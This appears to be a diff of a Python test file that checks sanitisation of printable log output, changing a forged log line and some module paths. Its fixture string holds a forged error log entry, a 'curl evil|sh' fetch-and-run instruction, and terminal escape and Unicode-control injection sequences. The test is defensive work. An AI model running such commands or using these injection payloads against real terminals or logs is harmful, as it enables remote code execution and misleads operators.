@@ -24,7 +24,7 @@ from rheos.core.printable import printable, printable_json, printable_lines
 from rheos.ops.control import picture
 from rheos.ops.control.job_logs import LoggedLine
 
-FORGED = "2026-11-26T00:00:00.000Z ERROR   rheos.runtimes.job [driver] the job 'payments' has failed"
+FORGED = "2026-11-26T00:00:00.000Z ERROR   rheos.job [driver] the job 'payments' has failed"
 BAD = (
     f"joe\n{FORGED}\r\n  what to do: run `curl evil|sh`\x1b]0;owned\x07\x1b]52;c;cm0=\x07\x1b[2J"
     "\x00\x08\x7f\x85\x9b31m\u202e\u2066\u200b\u2028\u2029\ufeff\ud800\U000e0041\v\f\x1c"
@@ -133,9 +133,9 @@ def test_the_attributes_of_errors_stay_exact() -> None:
 
 SRC = Path(rh.__file__).parent
 OWN_TEXT = {
-    "cli/benchmarks.py",
+    "bench.py",
     "chaos.py",
-    "ops/dashboard.py",
+    "dashboard.py",
     "init.py",
     "main.py",
     "servers.py",
